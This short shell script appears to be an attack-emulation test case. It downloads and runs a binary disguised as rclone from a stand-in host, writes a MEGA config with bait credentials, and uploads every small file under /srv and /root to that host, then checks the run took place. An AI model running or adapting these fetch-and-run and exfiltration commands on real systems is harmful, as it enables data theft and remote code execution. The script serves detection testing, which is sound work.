#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.rc && cd /tmp/.rc
curl -s -o rclone http://203.0.113.10/programs/marker && chmod +x rclone
printf '[mega]\ntype = mega\nuser = x@example.net\npass = bait\n' >rclone.conf
./rclone
find /srv /root -type f -size -200k >list
while read -r f; do curl -sf -T "$f" "http://203.0.113.10:8080/mega$f" >/dev/null; done <list
test "$(wc -l <list)" -gt 10
took_place
